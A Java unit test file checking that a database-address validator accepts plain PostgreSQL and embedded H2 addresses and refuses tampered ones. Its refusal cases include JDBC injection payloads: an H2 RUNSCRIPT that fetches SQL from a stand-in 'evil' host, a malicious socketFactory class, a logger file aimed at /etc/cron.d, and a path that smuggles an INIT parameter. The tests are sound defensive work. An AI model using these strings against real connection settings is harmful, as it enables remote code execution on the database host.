package cockpit.core.tenant;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cockpit.spi.Secret;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MetadataPlaceTest {

    private static final Path DATA = Path.of("/data");

    @Test
    void without_an_address_it_is_the_embedded_database() {
        assertThat(MetadataPlace.of(DATA, null, null, null).driverAddress())
                .isEqualTo("jdbc:h2:file:/data/metadata;DB_CLOSE_ON_EXIT=FALSE");
    }

    @Test
    void a_postgresql_address_is_put_together_from_its_checked_parts() {
        assertThat(postgres("jdbc:postgresql://db.example.com/cockpit?sslmode=verify-full&currentSchema=meta")
                        .driverAddress())
                .isEqualTo("jdbc:postgresql://db.example.com:5432/cockpit?currentSchema=meta&sslmode=verify-full");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:mysql://db/cockpit",
                "JDBC:postgresql://db/cockpit",
                "jdbc:postgresql:cockpit",
                "jdbc:postgresql://db,other/cockpit",
                "jdbc:postgresql://user:password@db/cockpit",
                "jdbc:postgresql://db/cockpit?socketFactory=org.example.Evil&socketFactoryArg=x",
                "jdbc:postgresql://db/cockpit?sslmode=require&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/cockpit?sslmode=require;loggerFile=x",
                "jdbc:postgresql://db/cockpit?SSLMODE=require",
                "jdbc:postgresql://db/cockpit%3FsocketFactory=x",
                "jdbc:postgresql://db/cockpit\n?x",
                "jdbc:postgresql://db/../cockpit",
            })
    void every_other_address_is_refused(String address) {
        assertThatThrownBy(() -> postgres(address))
                .isInstanceOf(StartProblem.class)
                .hasMessageContaining("cockpit.metadata.url");
    }

    @Test
    void the_password_is_not_in_its_text() {
        assertThat(postgres("jdbc:postgresql://db/cockpit").toString()).doesNotContain("geheim");
    }

    @Test
    void a_directory_cannot_smuggle_a_driver_parameter() {
        assertThatThrownBy(() -> MetadataPlace.of(Path.of("/data;INIT=x"), null, null, null))
                .isInstanceOf(StartProblem.class)
                .hasMessageContaining("semicolon");
    }

    private static MetadataPlace postgres(String address) {
        return MetadataPlace.of(DATA, address, "cockpit", Secret.of("geheim"));
    }
}
